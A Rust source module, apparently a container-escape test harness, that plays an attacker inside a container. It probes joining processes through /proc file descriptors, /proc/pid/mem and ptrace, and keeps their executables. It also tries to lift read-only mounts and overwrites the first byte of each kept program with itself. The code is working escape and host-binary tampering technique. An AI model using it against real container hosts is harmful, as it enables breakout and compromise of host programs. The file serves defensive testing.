//! An attacker in the container: tries to enter every process that joins it, and to keep the program that it runs.

use crate::{last, name};
use std::collections::{BTreeMap, BTreeSet};
use std::ffi::{c_int, c_long, c_void};
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt};

unsafe extern "C" {
    fn ptrace(request: c_long, pid: c_int, address: *mut c_void, data: *mut c_void) -> c_long;
    fn syscall(number: c_long, ...) -> c_long;
    fn kill(pid: c_int, signal: c_int) -> c_int;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
}

const O_PATH: c_int = 0o10000000;
const WALL: c_int = 0x40000000;

/// `prowl MARKER`: until there is a file /stop. MARKER is a file of the host that no root but the host's has.
/// The answer: how many others were seen, and what could be done to them.
pub fn prowl(marker: &str) -> String {
    println!("prowling");
    let mut found = BTreeSet::new();
    let mut programs = BTreeMap::new();
    let mut seen = BTreeSet::new();
    let own = std::process::id();
    while fs::metadata("/stop").is_err() {
        for pid in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Some(pid) = pid.file_name().to_str().and_then(|p| p.parse::<u32>().ok()) else {
                continue;
            };
            if pid != own {
                look_into(pid, marker, &mut found, &mut programs);
                seen.insert(pid);
            }
        }
        reap();
    }
    found.extend(programs.values().map(overwrite));
    let found: Vec<String> = found.into_iter().collect();
    format!("{} seen: {}", seen.len(), found.join(", "))
}

/// `hunt`: the same for nothing but the program, and faster: the kernel tells the newest pid (proc_loadavg(5)).
pub fn hunt() -> String {
    println!("prowling");
    let mut programs = BTreeMap::new();
    let mut seen = BTreeSet::new();
    let mut found = BTreeSet::new();
    let helper = lift_in_a_user_namespace();
    while fs::metadata("/stop").is_err() {
        if programs.len() > 200 {
            // No more can be open at a time. Most of these processes have ended.
            found.extend(programs.values().map(overwrite));
            programs.clear();
        }
        for _ in 0..64 {
            let newest = newest_pid();
            for pid in newest - 1..newest + 3 {
                if keep_program(&format!("/proc/{pid}/exe"), &mut programs) {
                    seen.insert(pid);
                }
            }
        }
    }
    unsafe { kill(helper, 9) };
    found.extend(programs.values().map(overwrite));
    let found: Vec<String> = found.into_iter().collect();
    format!("{} seen: {}", seen.len(), found.join(", "))
}

pub fn newest_pid() -> u32 {
    let text = fs::read_to_string("/proc/loadavg").unwrap_or_default();
    let last = text.trim().rsplit(' ').next();
    last.and_then(|pid| pid.parse().ok()).unwrap_or(1)
}

/// A process with the same descriptors, all of whose mounts it makes writable, as root of a user namespace of its own.
fn lift_in_a_user_namespace() -> c_int {
    const SAME_FILES: c_long = 0x400 | 17;
    let (none, zero) = (std::ptr::null::<u8>(), 0 as c_long);
    unsafe {
        let child = syscall(56, SAME_FILES, none, none, none, zero);
        if child != 0 {
            return child as c_int;
        }
        syscall(157, 1 as c_long, 9 as c_long, zero, zero, zero);
        syscall(272, NEW_USER_AND_MOUNTS);
        loop {
            (3..24).for_each(clear_flag);
        }
    }
}

fn look_into(
    pid: u32,
    marker: &str,
    found: &mut BTreeSet<String>,
    programs: &mut BTreeMap<(u64, u64), File>,
) {
    let base = format!("/proc/{pid}");
    let directories = fs::read_dir(format!("{base}/fd")).into_iter().flatten();
    let mut ways: Vec<String> = directories
        .flatten()
        .map(|fd| fd.path().display().to_string())
        .collect();
    ways.extend(["root", "cwd"].map(|way| format!("{base}/{way}")));
    ways.extend((3..16).map(|fd| format!("{base}/fd/{fd}")));
    for way in ways {
        for up in ["", "/../../../../../../../.."] {
            if fs::metadata(format!("{way}{up}{marker}")).is_ok() {
                let target = fs::read_link(&way).unwrap_or_default();
                let name = &way[base.len()..];
                found.insert(format!("host through {name} -> {}", target.display()));
            }
        }
    }
    keep_program(&format!("{base}/exe"), programs);
    for mapped in fs::read_dir(format!("{base}/map_files")).into_iter().flatten().flatten() {
        keep_program(&mapped.path().display().to_string(), programs);
    }
    let maps = fs::read_to_string(format!("{base}/maps")).unwrap_or_default();
    if !maps.is_empty() && !maps.contains("/payload") && runs_another(&base) {
        found.insert("maps".into());
    }
    let memory = OpenOptions::new()
        .read(true)
        .write(true)
        .open(format!("{base}/mem"));
    if memory.is_ok() && runs_another(&base) {
        found.insert("mem".into());
    }
    if seize(pid as c_int, &base) {
        found.insert("ptrace".into());
    }
}

/// Whoever may enter it may read the link. One that is no more has none.
fn runs_another(base: &str) -> bool {
    fs::read_link(format!("{base}/exe")).is_ok_and(|exe| !exe.starts_with("/payload"))
}

/// Whether it could be stopped while it ran something else.
fn seize(pid: c_int, base: &str) -> bool {
    let null = std::ptr::null_mut;
    unsafe {
        if ptrace(0x4206, pid, null(), null()) != 0 {
            return false;
        }
        ptrace(0x4207, pid, null(), null());
        let mut status = 0;
        waitpid(pid, &mut status, WALL);
        let stopped = status & 0xff == 0x7f;
        let another = stopped && runs_another(base);
        ptrace(17, pid, null(), null());
        another
    }
}

fn reap() {
    let mut status = 0;
    while unsafe { waitpid(-1, &mut status, 1 | WALL) } > 0 {}
}

/// False if there is none, or none of another program.
fn keep_program(path: &str, programs: &mut BTreeMap<(u64, u64), File>) -> bool {
    let open = |path: &str| OpenOptions::new().read(true).custom_flags(O_PATH).open(path);
    let Ok(program) = open(path) else {
        return false;
    };
    lift_read_only(&program);
    let facts = program.metadata().map(|m| (m.dev(), m.ino()));
    let own = fs::metadata("/payload").map_or((0, 0), |m| (m.dev(), m.ino()));
    match facts {
        Ok(facts) if facts != own => {
            programs.insert(facts, program);
            true
        }
        _ => false,
    }
}

/// CLONE_NEWUSER and CLONE_NEWNS.
const NEW_USER_AND_MOUNTS: c_long = 0x1002_0000;

/// Makes the mount and the superblock of a file writable. Whether that had an effect is seen when the file is written.
fn lift_read_only(program: &File) {
    clear_flag(program.as_raw_fd());
    reconfigure(program.as_raw_fd());
}

/// mount_setattr(2): takes MOUNT_ATTR_RDONLY off.
fn clear_flag(fd: c_int) {
    const AT_EMPTY_PATH: c_long = 0x1000;
    let attr = [0u64, 1, 0, 0];
    let (fd, size) = (fd as c_long, 32 as c_long);
    unsafe { syscall(442, fd, c"".as_ptr(), AT_EMPTY_PATH, attr.as_ptr(), size) };
}

/// fspick(2) and fsconfig(2): sets `rw`.
fn reconfigure(fd: c_int) {
    const FSPICK_EMPTY_PATH: c_long = 8;
    let (none, zero) = (std::ptr::null::<u8>(), 0 as c_long);
    unsafe {
        let picked = syscall(433, fd as c_long, c"".as_ptr(), FSPICK_EMPTY_PATH);
        if picked >= 0 {
            syscall(431, picked, zero, c"rw".as_ptr(), none, zero);
            syscall(431, picked, 7 as c_long, none, none, zero);
            syscall(3, picked);
        }
    }
}

/// Replaces the first byte by itself.
fn overwrite(program: &File) -> String {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let result = OpenOptions::new()
        .write(true)
        .open(path)
        .and_then(|file| file.write_all_at(b"\x7f", 0));
    result.map_or_else(|e| format!("program {}", name(&e)), |()| "program overwritten".into())
}
